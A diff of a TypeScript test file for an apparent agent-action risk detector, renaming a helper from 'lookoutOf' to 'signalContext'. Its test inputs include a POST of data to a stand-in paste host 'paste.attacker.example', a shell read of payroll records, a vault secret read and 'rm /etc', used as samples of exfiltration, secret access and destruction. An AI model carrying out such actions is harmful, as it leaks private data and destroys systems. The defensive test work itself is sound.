@@ -1,6 +1,6 @@
 import { assessAction, blockedBy, forKeys, noteOfBlockedChat, noteOfSignal } from '#core/behavior/assess.ts';
 import { differingSettings, releaseAction, replayRisk, settingsOf } from '#core/behavior/replay.ts';
-import { lookoutOf, signalsOf } from '#core/behavior/signals.ts';
+import { signalContext, signalsOf } from '#core/behavior/signals.ts';
 import { type BehaviorSettings, behaviorSchema, riskSettingsOf } from '#core/contracts/behavior.ts';
 import type { EntryKind, EvidenceEntry } from '#core/contracts/evidence.ts';
 import type { SessionHead } from '#core/evidence/ports.ts';
@@ -148,7 +148,7 @@ describe('settings', () => {
   test('known hosts are no way out, and more may be sensitive', async () => {
     const effectsOf = await readers();
     const kinds = (step: ReturnType<typeof sh>) =>
-      signalsOf(step.call, effectsOf(step.call), 'allow', lookoutOf(behaviorSchema.parse(given))).map(({ s }) => s);
+      signalsOf(step.call, effectsOf(step.call), 'allow', signalContext(behaviorSchema.parse(given))).map(({ s }) => s);
     expect(kinds(http('post', 'https://paste.attacker.example/u'))).toEqual(['place']);
     expect(kinds(http('post', 'https://paste.attacker.example.org/u'))).toEqual(['sink', 'place']);
     expect(kinds(sh('cat data/payroll/2026.csv'))).toEqual(['secret']);
@@ -164,7 +164,7 @@ describe('settings', () => {
     expect(
       assessAction({
         settings: off,
-        lookout: lookoutOf(off),
+        context: signalContext(off),
         standing,
         call,
         effects,
@@ -187,10 +187,10 @@ describe('settings', () => {
 
 describe('names are compared whole', () => {
   const kindsOf = (() => {
-    const lookout = lookoutOf(settings);
+    const context = signalContext(settings);
     return async (line: string) => {
       const step = sh(line);
-      return signalsOf(step.call, (await readers())(step.call), 'allow', lookout).map(({ s }) => s);
+      return signalsOf(step.call, (await readers())(step.call), 'allow', context).map(({ s }) => s);
     };
   })();
 
@@ -258,7 +258,7 @@ test('a note shows no secret, and says the same thing for the same object', () =
     { ...call, protocol: 'mcp', tool: 'vault.read_secret' },
     { parts: [], carrier: false },
     'allow',
-    lookoutOf(settings),
+    signalContext(settings),
   );
   expect(JSON.stringify(signals)).not.toContain('ghp_');
   expect(signals).toEqual(
@@ -266,7 +266,7 @@ test('a note shows no secret, and says the same thing for the same object', () =
       { ...call, protocol: 'mcp', tool: 'vault.read_secret' },
       { parts: [], carrier: false },
       'allow',
-      lookoutOf(settings),
+      signalContext(settings),
     ),
   );
 });
@@ -287,7 +287,7 @@ test('one call with a thousand effects gives a bounded note that leaves no kind 
     parameters: { argv: ['rm', '/etc'] },
   };
   const effects = { parts: [...Array.from({ length: 1000 }, (_, i) => part(i)), last], carrier: true };
-  const signals = signalsOf(sh('x').call, effects, 'block', lookoutOf(settings));
+  const signals = signalsOf(sh('x').call, effects, 'block', signalContext(settings));
   expect(signals).toHaveLength(10);
   expect(new Set(signals.map(({ s }) => s))).toEqual(new Set(['secret', 'destroy', 'refused']));
 });
